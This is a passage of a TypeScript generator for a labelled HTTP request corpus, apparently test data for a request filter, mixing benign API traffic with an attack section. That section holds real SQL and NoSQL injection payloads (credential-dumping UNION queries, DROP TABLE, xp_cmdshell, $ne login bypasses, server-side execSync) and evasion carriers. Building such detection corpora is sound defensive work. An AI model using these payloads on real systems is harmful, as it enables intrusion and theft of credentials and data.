        memoryMb: pick([2048, 4096, 6144, 8192]),
        mods: ['jei', 'create', 'sodium', 'journeymap'].slice(0, int(1, 4)),
        note: pick(d.notes),
      };
    case 'odds':
      return {
        eventId: `ev_${int(1000000, 9999999)}`,
        event: pick(d.titles),
        market: pick([
          'Match Result',
          'Both Teams To Score',
          'Over/Under 2.5',
          'Asian Handicap -0.25',
          'Correct Score',
          'Set Betting',
        ]),
        selections: [
          { name: 'Home', price: 1.5 + Math.round(rand() * 300) / 100 },
          { name: 'Draw', price: 3 + Math.round(rand() * 100) / 100 },
          { name: 'Away', price: 2 + Math.round(rand() * 400) / 100 },
        ],
        status: pick(['open', 'suspended', 'settled']),
        traderNote: pick(d.notes),
      };
    case 'conf':
      return {
        submissionId: int(100, 999),
        title: pick(d.titles),
        track: pick(['research', 'industry', 'short', 'demo']),
        authors: [
          {
            name: person(),
            email: email(),
            affiliation: pick([
              'ETH Zürich',
              'Universidade de São Paulo',
              'MIT',
              'KAIST',
              'Université Paris-Saclay',
            ]),
          },
        ],
        keywords: pick([
          ['sketching', 'streaming'],
          ['diffusion', 'robustness'],
          ['type systems'],
          ['scheduling', 'sustainability'],
        ]),
        comment: pick(d.notes),
      };
    default:
      return {
        itemId: `INV-${int(1000, 9999)}`,
        category: pick(['canned', 'produce', 'dairy', 'frozen', 'bakery', 'hygiene']),
        quantity: { value: int(1, 400), unit: pick(['lb', 'case', 'each', 'kg']) },
        expiresOn: day(),
        location: pick(['Aisle 3 / Bay B', 'Cooler 1', 'Freezer 2', 'Dock']),
        note: pick(d.notes),
      };
  }
}

// ---------------------------------------------------------------------------------------------------------
// Clean traffic
// ---------------------------------------------------------------------------------------------------------

const clean: CorpusRequest[] = [];
function addClean(
  kind: string,
  method: string,
  path: string,
  headers: Record<string, string>,
  body: string,
): void {
  clean.push({ id: `h33c${clean.length + 1}`, kind, method, path, headers, body });
}
const dom = (i: number): Domain => DOMAINS[i % DOMAINS.length] as Domain;
const PER_KIND = 30;

// rest-get
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const r = pick(d.resources);
  const q: Record<string, string | number> = { page: int(1, 20), per_page: pick([10, 25, 50, 100]) };
  if (rand() < 0.6) q.sort = pick(['-createdAt', 'name', 'price', 'startDate,-priority', 'updated_at']);
  if (rand() < 0.5) q.since = isoDate();
  if (rand() < 0.4) q['filter[status]'] = pick(['open', 'active', 'pending_review', 'settled', 'available']);
  if (rand() < 0.3) q.fields = pick(['id,name,status', 'id,title,authors', 'id,price,updatedAt']);
  if (rand() < 0.3) q.city = pick(['Köln', 'Montréal', 'Málaga', 'Kraków', 'Reykjavík', 'İstanbul']);
  if (rand() < 0.2) q.include = pick(['owner,photos', 'authors', 'site.contact']);
  const sub = rand() < 0.4 ? `/${uuid()}` : '';
  addClean('rest-get', 'GET', `${d.base}/${r}${sub}?${qs(q)}`, baseHeaders(), '');
}

// rest-write
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const put = rand() < 0.35;
  const r = pick(d.resources);
  addClean(
    'rest-write',
    put ? 'PUT' : 'POST',
    put ? `${d.base}/${r}/${uuid()}` : `${d.base}/${r}`,
    withBody('application/json'),
    JSON.stringify(domainBody(d)),
  );
}

// merge-patch
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const patch: Record<string, unknown> = {};
  const opts: (() => void)[] = [
    () => (patch.note = pick(d.notes)),
    () => (patch.status = pick(['cancelled', 'confirmed', 'on_hold', 'returned', 'void'])),
    () => (patch.tags = null),
    () => (patch.contact = { phone: `+1-555-${int(100, 999)}-${int(1000, 9999)}`, email: email() }),
    () => (patch.endDate = day()),
    () => (patch.preferences = { newsletter: rand() < 0.5, language: pick(['en', 'de', 'es', 'ja']) }),
    () => (patch.displayName = person()),
  ];
  for (let k = 0; k < int(1, 3); k++) pick(opts)();
  addClean(
    'merge-patch',
    'PATCH',
    `${d.base}/${pick(d.resources)}/${uuid()}`,
    withBody('application/merge-patch+json'),
    JSON.stringify(patch),
  );
}

// json-patch
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const ops: Record<string, unknown>[] = [];
  const pool: (() => Record<string, unknown>)[] = [
    () => ({ op: 'replace', path: '/status', value: pick(['approved', 'rejected', 'shipped', 'in_use']) }),
    () => ({
      op: 'add',
      path: '/tags/-',
      value: pick(['vip', 'fragile', 'needs-followup', 'late-return', 'first-time']),
    }),
    () => ({ op: 'remove', path: `/attachments/${int(0, 4)}` }),
    () => ({ op: 'replace', path: '/notes', value: pick(d.notes) }),
    () => ({ op: 'test', path: '/version', value: int(1, 40) }),
    () => ({ op: 'move', from: '/draft/title', path: '/title' }),
    () => ({ op: 'copy', from: '/billing/address', path: '/shipping/address' }),
    () => ({
      op: 'add',
      path: '/schedule/slots/-',
      value: { start: isoDate(), durationMin: pick([30, 60, 180]) },
    }),
    () => ({ op: 'replace', path: '/labels/~1en~1title', value: pick(d.titles) }),
  ];
  for (let k = 0; k < int(1, 4); k++) ops.push(pick(pool)());
  addClean(
    'json-patch',
    'PATCH',
    `${d.base}/${pick(d.resources)}/${int(1000, 99999)}`,
    withBody('application/json-patch+json'),
    JSON.stringify(ops),
  );
}

// jsonapi
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const r = pick(d.resources);
  const mode = i % 3;
  const h = withBody('application/vnd.api+json', 'application/vnd.api+json');
  if (mode === 0) {
    const hh = baseHeaders('application/vnd.api+json');
    addClean(
      'jsonapi',
      'GET',
      `${d.base}/${r}?${qs({ include: pick(['author,comments', 'site', 'donor', 'pet.owner']), [`fields[${r}]`]: 'title,status,updatedAt', 'page[number]': int(1, 9), 'page[size]': 20 })}`,
      hh,
      '',
    );
  } else {
    const id = mode === 2 ? String(int(1, 99999)) : undefined;
    const data: Record<string, unknown> = {
      type: r,
      attributes: { title: pick(d.titles), description: pick(d.notes), createdAt: isoDate() },
      relationships: { owner: { data: { type: 'users', id: String(int(1, 5000)) } } },
    };
    if (id) data.id = id;
    addClean(
      'jsonapi',
      id ? 'PATCH' : 'POST',
      `${d.base}/${r}${id ? '/' + id : ''}`,
      h,
      JSON.stringify({ data }),
    );
  }
}

// graphql
const GQL_QUERIES: readonly { q: string; vars: () => Record<string, unknown> }[] = [
  {
    q: 'query Consult($id: ID!) { consultation(id: $id) { id status pet { name species weightKg } messages(last: 20) { edges { node { id body sentAt author { displayName } } } } } }',
    vars: () => ({ id: uuid() }),
  },
  {
    q: 'mutation SendMessage($input: SendMessageInput!) { sendMessage(input: $input) { message { id sentAt } errors { field message } } }',
    vars: () => ({
      input: { consultationId: uuid(), body: pick((DOMAINS[0] as Domain).notes), photoIds: [uuid()] },
    }),
  },
  {
    q: 'query Fleet($site: ID, $type: EquipmentType, $after: String) { equipment(siteId: $site, type: $type, first: 25, after: $after) { pageInfo { hasNextPage endCursor } nodes { id model hoursMeter status } } }',
    vars: () => ({
      site: `SITE-${int(100, 999)}`,
      type: pick(['EXCAVATOR', 'SCISSOR_LIFT', 'SKID_STEER']),
      after: b64(`cursor:${int(1, 500)}`),
    }),
  },
  {
    q: 'mutation Donate($input: DonationInput!) { createDonation(input: $input) { donation { id receiptUrl } } }',
    vars: () => ({
      input: {
        fund: 'missions',
        amountCents: int(500, 100000),
        currency: 'USD',
        memo: pick((DOMAINS[2] as Domain).notes),
      },
    }),
  },
  {
    q: 'query Markets($eventId: ID!, $inPlay: Boolean = true) { event(id: $eventId) { name startsAt markets(inPlay: $inPlay) { id name status selections { id name price } } } }',
    vars: () => ({ eventId: `ev_${int(1000000, 9999999)}` }),
  },
  {
    q: 'mutation SubmitReview($input: ReviewInput!) { submitReview(input: $input) { review { id score confidence } } }',
    vars: () => ({
      input: {
        submissionId: int(100, 999),
        score: pick([-2, -1, 1, 2]),
        confidence: int(1, 5),
        comments: pick((DOMAINS[6] as Domain).notes),
      },
    }),
  },
  {
    q: 'query Server($id: ID!) { server(id: $id) { id name state players { online max list { name uuid } } resources { cpu memoryMb diskMb } } }',
    vars: () => ({ id: `srv-${hex(6)}` }),
  },
  {
    q: 'mutation Shift($input: ShiftSignupInput!) { signUpForShift(input: $input) { shift { id startsAt role } waitlisted } }',
    vars: () => ({ input: { shiftId: int(1, 900), volunteerNote: pick((DOMAINS[7] as Domain).notes) } }),
  },
  {
    q: 'query Box($slug: String!) { box(slug: $slug) { title month items { name vendor retailValue { amount currency } } survey { questions { id prompt kind } } } }',
    vars: () => ({ slug: pick(['cozy-autumn-tea', 'spicy-korea', 'indie-beauty-mini']) }),
  },
];
for (let i = 0; i < PER_KIND; i++) {
  const g = GQL_QUERIES[i % GQL_QUERIES.length]!;
  const d = dom(i);
  const path = pick(['/graphql', `${d.base}/graphql`, '/api/graphql']);
  const mode = i % 5;
  if (mode === 3) {
    const ext = { persistedQuery: { version: 1, sha256Hash: hex(64) } };
    addClean(
      'graphql',
      'GET',
      `${path}?${qs({ operationName: g.q.split(/[ ($]/)[1] ?? 'Q', variables: JSON.stringify(g.vars()), extensions: JSON.stringify(ext) })}`,
      baseHeaders('application/graphql-response+json, application/json'),
      '',
    );
  } else if (mode === 4 && g.q.startsWith('query')) {
    addClean(
      'graphql',
      'GET',
      `${path}?${qs({ query: g.q, variables: JSON.stringify(g.vars()) })}`,
      baseHeaders(),
      '',
    );
  } else {
    addClean(
      'graphql',
      'POST',
      path,
      withBody('application/json', 'application/graphql-response+json, application/json'),
      JSON.stringify({ operationName: g.q.split(/[ ($]/)[1], query: g.q, variables: g.vars() }),
    );
  }
}

// form
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const f: Record<string, string | number> = {};
  switch (d.name) {
    case 'church':
      Object.assign(f, {
        amount: money(),
        fund: 'general',
        name: person(),
        email: email(),
        note: pick(d.notes),
        cover_fees: 'on',
      });
      break;
    case 'food':
      Object.assign(f, {
        first_name: pick(FIRST),
        last_name: pick(LAST),
        phone: `555-01${int(10, 99)}`,
        shift_id: int(1, 400),
        comments: pick(d.notes),
      });
      break;
    case 'box':
      Object.assign(f, {
        q1: int(1, 5),
        q2: pick(['too sweet', 'just right', 'not sweet enough']),
        q3: pick(d.notes),
        nps: int(0, 10),
      });
      break;
    case 'vet':
      Object.assign(f, {
        pet_name: pick(['Biscuit', 'Miso', 'Lotte', 'Toby', 'Mochi', 'Señor Bigotes']),
        owner_email: email(),
        symptoms: pick(d.notes),
      });
      break;
    default:
      Object.assign(f, {
        username: pick(FIRST).toLowerCase() + int(1, 999),
        password: `${rnd64(12)}!${int(10, 99)}`,
        remember: 'true',
        redirect: `${d.base}/dashboard`,
      });
  }
  const body = qs(f).replace(/%20/g, '+');
  addClean(
    'form',
    'POST',
    `${d.base}/${pick(['forms/submit', 'session', 'signup', 'contact'])}`,
    withBody('application/x-www-form-urlencoded', 'text/html,application/xhtml+xml'),
    body,
  );
}

// multipart
const FILES: readonly { name: string; type: string; content: () => string }[] = [
  { name: 'biscuit_knee.jpg', type: 'image/jpeg', content: () => `\u00ff\u00d8\u00ff\u00e0JFIF${rnd64(60)}` },
  { name: 'rash-close-up.heic', type: 'image/heic', content: () => `ftypheic${rnd64(50)}` },
  {
    name: 'inspection_report_EQ-4471.pdf',
    type: 'application/pdf',
    content: () => `%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n${rnd64(40)}`,
  },
  {
    name: 'donations-2025.csv',
    type: 'text/csv',
    content: () =>
      `date,donor,fund,amount\n2025-12-24,${person()},building,250.00\n2025-12-31,Anonymous,general,40.00`,
  },
  {
    name: 'server.properties',
    type: 'text/plain',
    content: () => 'level-name=world\ngamemode=survival\ndifficulty=normal\nspawn-protection=16',
  },
  {
    name: 'paper-123-camera-ready.pdf',
    type: 'application/pdf',
    content: () => `%PDF-1.5\n%\u00e2\u00e3\u00cf\u00d3\n${rnd64(50)}`,
  },
  { name: 'pallet_photo_dock2.png', type: 'image/png', content: () => `\u0089PNG\r\n\u001a\n${rnd64(50)}` },
  {
    name: 'world_backup_2026-03-01.zip',
    type: 'application/zip',
    content: () => `PK\u0003\u0004${rnd64(50)}`,
  },
  { name: 'Überweisung_März.pdf', type: 'application/pdf', content: () => `%PDF-1.4\n${rnd64(30)}` },
];
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const f = FILES[i % FILES.length]!;
  const boundary = `----WebKitFormBoundary${rnd64(16)}`;
  const fname = /[^\x20-\x7e]/.test(f.name) ? `filename*=UTF-8''${enc(f.name)}` : `filename="${f.name}"`;
  const body = [
    `--${boundary}`,
    'Content-Disposition: form-data; name="description"',
    '',
    pick(d.notes),
    `--${boundary}`,
    `Content-Disposition: form-data; name="file"; ${fname}`,
    `Content-Type: ${f.type}`,
    '',
    f.content(),
    `--${boundary}--`,
    '',
  ].join('\r\n');
  addClean(
    'multipart',
    'POST',
    `${d.base}/${pick(d.resources)}/${uuid()}/attachments`,
    withBody(`multipart/form-data; boundary=${boundary}`),
    body,
  );
}

// ndjson
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const lines: string[] = [];
  for (let k = 0; k < int(2, 6); k++) {
    if (d.name === 'odds') {
      lines.push(
        JSON.stringify({
          ts: isoDate(),
          eventId: `ev_${int(1000000, 9999999)}`,
          market: pick(['1X2', 'BTTS', 'OU2.5', 'AH-0.5']),
          price: Math.round((1 + rand() * 9) * 100) / 100,
          suspended: rand() < 0.1,
        }),
      );
    } else if (d.name === 'game') {
      lines.push(
        JSON.stringify({
          ts: isoDate(),
          level: pick(['INFO', 'WARN']),
          thread: 'Server thread',
          msg: pick([
            'Player joined: Steve_Builds',
            'Saving chunks for level ServerLevel[world]',
            "Can't keep up! Is the server overloaded? Running 2013ms behind",
            'Done (12.44s)! For help, type "help"',
          ]),
        }),
      );
    } else if (d.name === 'fleet') {
      lines.push(
        JSON.stringify({
          ts: isoDate(),
          unit: `EQ-${int(10000, 99999)}`,
          lat: 41.7 + rand() / 10,
          lon: -72.6 - rand() / 10,
          engineOn: rand() < 0.6,
          fuelPct: int(5, 100),
        }),
      );
    } else {
      lines.push(JSON.stringify({ ...domainBody(d), importedAt: isoDate() }));
    }
  }
  addClean(
    'ndjson',
    'POST',
    `${d.base}/${pick(['ingest', 'events/bulk', 'import'])}`,
    withBody('application/x-ndjson'),
    lines.join('\n') + '\n',
  );
}

// delete
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const q =
    rand() < 0.3
      ? `?${qs({ reason: pick(['duplicate', 'customer request', 'entered in error', 'GDPR erasure request']) })}`
      : '';
  const h = baseHeaders();
  if (rand() < 0.3) h['if-match'] = `"${hex(16)}"`;
  addClean(
    'delete',
    'DELETE',
    `${d.base}/${pick(d.resources)}/${rand() < 0.5 ? uuid() : int(1, 999999)}${q}`,
    h,
    '',
  );
}

// cms-html (church/temple pages and food bank announcements)
for (let i = 0; i < PER_KIND; i++) {
  const d = DOMAINS[pick([2, 2, 7, 3])] as Domain;
  const page = {
    page: {
      slug:
        pick([
          'easter-2026',
          'diwali-night',
          'volunteer',
          'give',
          'ramadan-iftar',
          'christmas-eve',
          'about-us',
        ]) + `-${int(1, 99)}`,
      title: pick(d.titles),
      bodyHtml:
        HTML_SNIPPETS[i % HTML_SNIPPETS.length]! +
        (rand() < 0.4 ? HTML_SNIPPETS[int(0, HTML_SNIPPETS.length - 1)]! : ''),
      summary: pick(d.notes),
      publishAt: isoDate(),
      locale: pick(['en', 'de', 'es', 'ko']),
    },
  };
  addClean(
    'cms-html',
    i % 4 === 0 ? 'PUT' : 'POST',
    `${d.base}/pages${i % 4 === 0 ? '/' + int(1, 300) : ''}`,
    withBody('application/json'),
    JSON.stringify(page),
  );
}

// code
for (let i = 0; i < PER_KIND; i++) {
  if (i % 3 === 2) {
    const d = DOMAINS[6] as Domain;
    const body = {
      submission: {
        id: int(100, 999),
        title: pick(d.titles),
        abstract: pick(d.notes),
        latexSource: LATEX_SNIPPETS[i % LATEX_SNIPPETS.length]!,
      },
    };
    addClean(
      'code',
      'PUT',
      `${d.base}/submissions/${int(100, 999)}/source`,
      withBody('application/json'),
      JSON.stringify(body),
    );
  } else {
    const d = DOMAINS[4] as Domain;
    const c = CODE_SNIPPETS[i % CODE_SNIPPETS.length]!;
    const body = {
      server: {
        id: `srv-${hex(6)}`,
        startupScript: c.src,
        language: c.lang,
        autoRestart: rand() < 0.7,
        note: pick(d.notes),
      },
    };
    addClean(
      'code',
      'PUT',
      `${d.base}/servers/${hex(6)}/config`,
      withBody('application/json'),
      JSON.stringify(body),
    );
  }
}

// prose
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const text = PROSE[i % PROSE.length]!;
  const body: Record<string, unknown> = {
    threadId: uuid(),
    author: { name: person(), email: email() },
    body: rand() < 0.3 ? `${text}\n\n${pick(d.notes)}` : text,
    format: pick(['plain', 'markdown']),
    sentAt: isoDate(),
  };
  if (rand() < 0.3)
    body.body = `**Update:** ${body.body as string}\n\n- see [the schedule](https://example.org/schedule)\n- reply by _Friday_`;
  addClean(
    'prose',
    'POST',
    `${d.base}/${pick(['messages', 'comments', 'threads/' + int(1, 999) + '/replies'])}`,
    withBody('application/json'),
    JSON.stringify(body),
  );
}

// search
for (let i = 0; i < PER_KIND; i++) {
  const d = dom(i);
  const term = SEARCHES[(i * 7) % SEARCHES.length]!;
  const q: Record<string, string | number> = { q: term };
  if (rand() < 0.5) q.lang = pick(['en', 'de', 'ja', 'es', 'pt']);
  if (rand() < 0.4) q.near = pick(['41.76,-72.67', 'Hartford, CT', 'Lyon', 'Ōsaka']);
  if (rand() < 0.3) q.radius = pick(['10mi', '25km']);
  if (rand() < 0.3) q.limit = 20;
  const path = `${d.base}/search?${qs(q).replace(/%20/g, rand() < 0.5 ? '+' : '%20')}`;
  addClean('search', 'GET', path, baseHeaders(), '');
}

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

const attacks: CorpusRequest[] = [];
interface Shaped {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string;
  readonly carrier: string;
}
function addAttack(family: string, technique: string, s: Shaped): void {
  attacks.push({
    id: `h33a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique: `${technique} via ${s.carrier}`,
    method: s.method,
    path: s.path,
    headers: s.headers,
    body: s.body,
  });
}

/** Escapes the characters an attacker would \u-encode inside a JSON string literal. */
function uEscapeJson(s: string): string {
  const inner = JSON.stringify(s).slice(1, -1);
  return `"${inner.replace(/[<>'$(){}:/;|&`._-]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)}"`;
}

type Carrier = (p: string, field: string, d: Domain) => Shaped;
const PH = '__H33_PAYLOAD__';

const STRING_CARRIERS: readonly Carrier[] = [
  (p, field, d) => ({
    carrier: 'nested JSON field',
    method: 'POST',
    path: `${d.base}/${pick(d.resources)}`,
    headers: withBody('application/json'),
    body: JSON.stringify({ ...domainBody(d), meta: { filters: { [field]: p } } }),
  }),
  (p, field, d) => ({
    carrier: 'JSON array element',
    method: 'POST',
    path: `${d.base}/${pick(d.resources)}/batch`,
    headers: withBody('application/json'),
    body: JSON.stringify({
      items: [
        { id: int(1, 99), [field]: 'ok' },
        { id: int(100, 199), [field]: p },
      ],
    }),
  }),
  (p, field, d) => ({
    carrier: 'query string',
    method: 'GET',
    path: `${d.base}/${pick(d.resources)}?${enc(field)}=${enc(p)}&page=1`,
    headers: baseHeaders(),
    body: '',
  }),
  (p, _field, d) => {
    const h = baseHeaders();
    const hn = pick(['user-agent', 'referer', 'x-forwarded-for', 'x-client-note', 'x-correlation-id']);
    // Header values cannot carry raw control or non-ASCII bytes: such payloads are sent percent-encoded.
    const printable = /^[\x20-\x7e]*$/.test(p);
    h[hn] = printable ? p : enc(p);
    return {
      carrier: printable ? `header ${hn}` : `percent-encoded header ${hn}`,
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?page=${int(1, 5)}`,
      headers: h,
      body: '',
    };
  },
  (p, field, _d) => ({
    carrier: 'GraphQL variables',
    method: 'POST',
    path: '/graphql',
    headers: withBody('application/json'),
    body: JSON.stringify({
      operationName: 'Lookup',
      query: `query Lookup($${field.replace(/[^A-Za-z]/g, '')}: String!) { lookup(${field.replace(/[^A-Za-z]/g, '')}: $${field.replace(/[^A-Za-z]/g, '')}) { id name } }`,
      variables: { [field.replace(/[^A-Za-z]/g, '')]: p },
    }),
  }),
  (p, field, d) => ({
    carrier: 'JSON encoded inside a string field',
    method: 'POST',
    path: `${d.base}/${pick(d.resources)}`,
    headers: withBody('application/json'),
    body: JSON.stringify({ type: 'saved-view', payload: JSON.stringify({ view: 'list', [field]: p }) }),
  }),
  (p, field, d) => ({
    carrier: 'base64 field the API decodes',
    method: 'POST',
    path: `${d.base}/${pick(d.resources)}/import`,
    headers: withBody('application/json'),
    body: JSON.stringify({ encoding: 'base64', data: b64(JSON.stringify({ [field]: p })) }),
  }),
  (p, field, d) => ({
    carrier: '\\u-escaped JSON string',
    method: 'PUT',
    path: `${d.base}/${pick(d.resources)}/${uuid()}`,
    headers: withBody('application/json'),
    body: JSON.stringify({ ...domainBody(d), [field]: PH }).replace(`"${PH}"`, uEscapeJson(p)),
  }),
  (p, field, d) => ({
    carrier: 'form field',
    method: 'POST',
    path: `${d.base}/forms/submit`,
    headers: withBody('application/x-www-form-urlencoded'),
    body: `name=${enc(person())}&${enc(field)}=${enc(p)}&submit=Send`,
  }),
  (p, field, d) => ({
    carrier: 'merge-patch field',
    method: 'PATCH',
    path: `${d.base}/${pick(d.resources)}/${uuid()}`,
    headers: withBody('application/merge-patch+json'),
    body: JSON.stringify({ status: 'active', details: { [field]: p } }),
  }),
  (p, field, d) => ({
    carrier: 'json-patch value',
    method: 'PATCH',
    path: `${d.base}/${pick(d.resources)}/${int(1, 9999)}`,
    headers: withBody('application/json-patch+json'),
    body: JSON.stringify([
      { op: 'test', path: '/version', value: int(1, 9) },
      { op: 'replace', path: `/${field}`, value: p },
    ]),
  }),
  (p, field, d) => ({
    carrier: 'NDJSON line',
    method: 'POST',
    path: `${d.base}/ingest`,
    headers: withBody('application/x-ndjson'),
    body: `${JSON.stringify(domainBody(d))}\n${JSON.stringify({ ts: isoDate(), [field]: p })}\n`,
  }),
  (p, field, d) => ({
    carrier: 'jsonapi attribute',
    method: 'POST',
    path: `${d.base}/${pick(d.resources)}`,
    headers: withBody('application/vnd.api+json', 'application/vnd.api+json'),
    body: JSON.stringify({
      data: { type: pick(d.resources), attributes: { [field]: p, createdAt: isoDate() } },
    }),
  }),
  (p, field, d) => {
    const boundary = `----formdata-${rnd64(12)}`;
    return {
      carrier: 'multipart text part',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/upload`,
      headers: withBody(`multipart/form-data; boundary=${boundary}`),
      body: [
        `--${boundary}`,
        `Content-Disposition: form-data; name="${field}"`,
        '',
        p,
        `--${boundary}`,
        'Content-Disposition: form-data; name="file"; filename="photo.jpg"',
        'Content-Type: image/jpeg',
        '',
        `\u00ff\u00d8\u00ff\u00e0${rnd64(30)}`,
        `--${boundary}--`,
        '',
      ].join('\r\n'),
    };
  },
];

function runStringFamily(
  family: string,
  payloads: readonly [string, string][],
  fields: readonly string[],
  carriers = STRING_CARRIERS,
): void {
  for (let i = 0; i < 30; i++) {
    const [technique, p] = payloads[i % payloads.length]!;
    const c = carriers[(i * 5 + Math.floor(i / payloads.length)) % carriers.length]!;
    addAttack(family, technique, c(p, pick(fields), dom(i + 3)));
  }
}

runStringFamily(
  'sql',
  [
    ['tautology with comment', "' OR '1'='1' -- "],
    ['UNION SELECT credential dump', "1' UNION SELECT username, password_hash, NULL FROM users--"],
    ['stacked query DROP TABLE', '42; DROP TABLE shifts;--'],
    ['MySQL time-based blind SLEEP', '1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)'],
    ['error-based extractvalue', "x' AND extractvalue(1,concat(0x7e,(SELECT version())))-- -"],
    ['PostgreSQL pg_sleep concatenation', "1'||pg_sleep(10)--"],
    ['inline-comment whitespace evasion', "admin'/**/OR/**/1=1#"],
    ['MSSQL WAITFOR DELAY', "1);WAITFOR DELAY '0:0:5'--"],
    [
      'information_schema enumeration',
      "' UNION/**/SELECT/**/NULL,table_name,NULL/**/FROM/**/information_schema.tables--",
    ],
    ['xp_cmdshell stacked exec', "'; EXEC xp_cmdshell('whoami');--"],
    ['boolean blind substring', "1' AND ASCII(SUBSTRING((SELECT password FROM admins LIMIT 1),1,1))>64--"],
    ['double-quote tautology', '" or ""="'],
    [
      'ORDER BY CASE conditional error',
      '(CASE WHEN (SELECT COUNT(*) FROM pg_user)>0 THEN price ELSE 1/0 END)',
    ],
    ['mixed-case keywords', "1' UnIoN SeLeCt null,@@version,null-- -"],
    ['SQLite load_extension', "1' AND load_extension('/tmp/x.so')--"],
  ],
  ['sort', 'memberId', 'filter', 'eventId', 'searchTerm', 'orderBy', 'volunteerId', 'fund'],
);

// NoSQL: operator objects need structural carriers.
const NOSQL: readonly [string, (d: Domain) => Shaped][] = [
  [
    '$ne operator login bypass',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/auth/login`,
      headers: withBody('application/json'),
      body: JSON.stringify({ email: 'admin@example.org', password: { $ne: null } }),
    }),
  ],
  [
    '$gt empty-string bypass',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/auth/login`,
      headers: withBody('application/json'),
      body: JSON.stringify({ username: { $gt: '' }, password: { $gt: '' } }),
    }),
  ],
  [
    'bracket operator in query string',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?owner[$ne]=x&page=1`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    '$where sleep injection',
    (d) => ({
      carrier: 'nested filter',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/search`,
      headers: withBody('application/json'),
      body: JSON.stringify({ filter: { status: 'open', $where: 'sleep(5000) || true' } }),
    }),
  ],
  [
    '$regex password extraction',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/auth/reset`,
      headers: withBody('application/json'),
      body: JSON.stringify({ email: 'dana@foodbank.example.org', token: { $regex: '^a' } }),
    }),
  ],
  [
    '$where JS function',
    (d) => ({
      carrier: 'array of filters',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/query`,
      headers: withBody('application/json'),
      body: JSON.stringify({ and: [{ site: 'A' }, { $where: 'function(){ return this.role == "admin" }' }] }),
    }),
  ],
  [
    '$or always-true',
    (d) => ({
      carrier: 'nested filter',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/search`,
      headers: withBody('application/json'),
      body: JSON.stringify({ query: { $or: [{ _id: { $exists: true } }, { a: 1 }] } }),
    }),
  ],
  [
    '$expr $function server-side JS',
    (d) => ({
      carrier: 'aggregation stage',
      method: 'POST',
      path: `${d.base}/reports/aggregate`,
      headers: withBody('application/json'),
      body: JSON.stringify({
        pipeline: [
          {
            $match: {
              $expr: {
                $function: {
                  body: "function(){ return require('child_process').execSync('id').toString() }",
                  args: [],
                  lang: 'js',
                },
              },
            },
          },
        ],
      }),
    }),
  ],
  [
    '$lookup cross-collection read',
    (d) => ({
      carrier: 'aggregation stage',
      method: 'POST',
      path: `${d.base}/reports/aggregate`,
      headers: withBody('application/json'),
      body: JSON.stringify({
        pipeline: [
          { $lookup: { from: 'users', localField: 'ownerId', foreignField: '_id', as: 'u' } },
          { $project: { 'u.passwordHash': 1 } },
        ],
      }),
    }),
  ],
  [
    'operator JSON inside a string',
    (d) => ({
      carrier: 'JSON encoded inside a string field',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?filter=${enc(JSON.stringify({ apiKey: { $ne: '' } }))}`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    '\\u-escaped $ operator key',
    (d) => ({
      carrier: '\\u-escaped JSON key',
      method: 'POST',
      path: `${d.base}/auth/login`,
      headers: withBody('application/json'),
      body: '{"user":"admin","pass":{"\\u0024ne":1}}',
    }),
  ],
  [
    '$nin empty array',
    (_d) => ({
      carrier: 'GraphQL variables',
      method: 'POST',
      path: '/graphql',
      headers: withBody('application/json'),
      body: JSON.stringify({
        query: 'query Q($f: JSON) { donors(filter: $f) { id email } }',
        variables: { f: { email: { $nin: [] } } },
      }),
    }),
  ],
  [
    'form bracket $gt',
    (d) => ({
      carrier: 'form field',
      method: 'POST',
      path: `${d.base}/session`,
      headers: withBody('application/x-www-form-urlencoded'),
      body: 'username=admin&password%5B%24gt%5D=',
    }),
  ],
  [
    'CouchDB selector $gt null',
    (d) => ({
      carrier: 'JSON body',
      method: 'POST',
      path: `${d.base}/_find`,
      headers: withBody('application/json'),
      body: JSON.stringify({ selector: { _id: { $gt: null } }, fields: ['_id', 'password'], limit: 10000 }),
    }),
  ],
  [
    'JS string-break in $where context',
    (d) => ({
      carrier: 'query string',
      method: 'GET',
      path: `${d.base}/${pick(d.resources)}?name=${enc("x'; return true; var y='")}`,
      headers: baseHeaders(),
      body: '',
    }),
  ],
  [
    'base64-encoded filter with $ne',
    (d) => ({
      carrier: 'base64 field the API decodes',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/search`,
      headers: withBody('application/json'),
      body: JSON.stringify({ filterB64: b64(JSON.stringify({ ownerId: { $ne: null } })) }),
    }),
  ],
  [
    'merge-patch $set privilege escalation',
    (d) => ({
      carrier: 'merge-patch field',
      method: 'PATCH',
      path: `${d.base}/members/${uuid()}`,
      headers: withBody('application/merge-patch+json'),
      body: JSON.stringify({ displayName: 'x', $set: { role: 'admin' } }),
    }),
  ],
  [
    '$regex ReDoS-style catastrophic pattern',
    (d) => ({
      carrier: 'nested filter',
      method: 'POST',
      path: `${d.base}/${pick(d.resources)}/search`,
